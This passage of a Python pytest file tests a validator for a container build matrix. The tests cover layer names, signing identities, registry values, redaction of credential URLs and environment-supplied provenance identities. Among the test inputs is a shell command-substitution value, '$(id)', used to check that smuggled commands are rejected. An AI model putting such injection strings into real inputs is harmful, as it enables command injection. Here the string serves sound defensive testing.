        f"matrix.yaml: targets.cu129.compile.remote_cache: {expected}"
    )


@pytest.mark.parametrize(
    "second,third,expected",
    [
        ("base", None, "layers.1.name: 'base' is reserved or repeated"),
        ("cuda", "x1", "layers.2.name: 'x1' is reserved or repeated"),
    ],
)
def test_layer_names_are_neither_the_tools_nor_repeated(second, third, expected):
    layers = f"    layers:\n    - name: x1\n      match: [a]\n    - name: {second}\n      match: [b]\n"
    if third:
        layers += f"    - name: {third}\n      match: [c]\n"
    text = SRC.replace("    expires: 2027-06-30\n", "    expires: 2027-06-30\n" + layers, 1)
    assert (
        _error(text)
        == f"matrix.yaml: targets.cu129.{expected} (base, deps, app, app-native, app-python are the tool's own layers)"
    )


@pytest.mark.parametrize(
    "identity,ok",
    [
        ("https://github.com/o/r/.github/workflows/k3-branch.yml@refs/heads/main", True),
        ("release-bot@example.org", True),
        ("https://github.com/K3-Org/Images/.github/workflows/b.yml@refs/heads/main", True),
        ("http://github.com/o/r", False),
        ("https://github.com", False),
        ("not an identity", False),
        ("a@b c", False),
    ],
)
def test_a_signing_identity_is_a_workflow_url_or_an_e_mail(monkeypatch, identity, ok):
    monkeypatch.setenv("K3_SIGNING_IDENTITY", identity)
    if ok:
        assert matrix.parse(SRC, PATH).target("cu129").signing.identity == identity
    else:
        assert _error(SRC) == (
            "matrix.yaml: targets.cu129.signing.identity (from $K3_SIGNING_IDENTITY): must be a "
            f"certificate identity: a workflow URL or an e-mail (got {identity!r})"
        )


def test_a_target_that_has_its_own_image_is_named_even_when_defaults_have_one(monkeypatch):
    both = SRC.replace(
        "\ndefaults:\n",
        "\ndefaults:\n  image:\n    registry: ghcr.io\n    repository: k3-cu129/vllm-openai\n    tag: kimi-k3-cu129\n",
        1,
    )
    monkeypatch.setenv("K3_REGISTRY", "bad host!")
    assert _error(both).startswith("matrix.yaml: targets.cu129.image.registry (from $K3_REGISTRY): must be a registry")


def test_a_long_credential_url_in_the_matrix_is_redacted_before_the_message_cuts_it():
    url = "https://deploy:" + "Zq9-secret-" * 6 + "@index.example.org/simple path"
    text = SRC.replace("url: https://github.com/vllm-project/vllm.git", f"url: '{url}'", 1)
    message = _error(text)
    assert "Zq9-secret" not in message and "***@" in message


@pytest.mark.parametrize(("var", "key"), [("K3_BUILDER_ID", "builder_id"), ("K3_BUILD_TYPE", "build_type")])
@pytest.mark.parametrize("value", ["not a url", "http://ci.example.org/builder", "https://x.example.org/a b", "$(id)"])
def test_the_provenance_identities_from_the_environment_are_validated_naming_the_variable(monkeypatch, var, key, value):
    """Issue 32: they went into the provenance unchecked, though the cascade says environment
    values are validated like the file's."""
    monkeypatch.setenv(var, value)
    message = _error(SRC)
    assert message.startswith(f"matrix.yaml: targets.cu129.signing.{key} (from ${var}): must be")
    assert "\n" not in message


def test_valid_provenance_identities_from_the_environment_are_taken(monkeypatch):
    monkeypatch.setenv("K3_BUILDER_ID", "https://ci.example.org/builders/k3")
    monkeypatch.setenv("K3_BUILD_TYPE", "https://example.org/buildtypes/v1")
    signing = matrix.parse(SRC, PATH).target("cu129").signing
    assert (signing.builder_id, signing.build_type) == (
        "https://ci.example.org/builders/k3",
        "https://example.org/buildtypes/v1",
    )
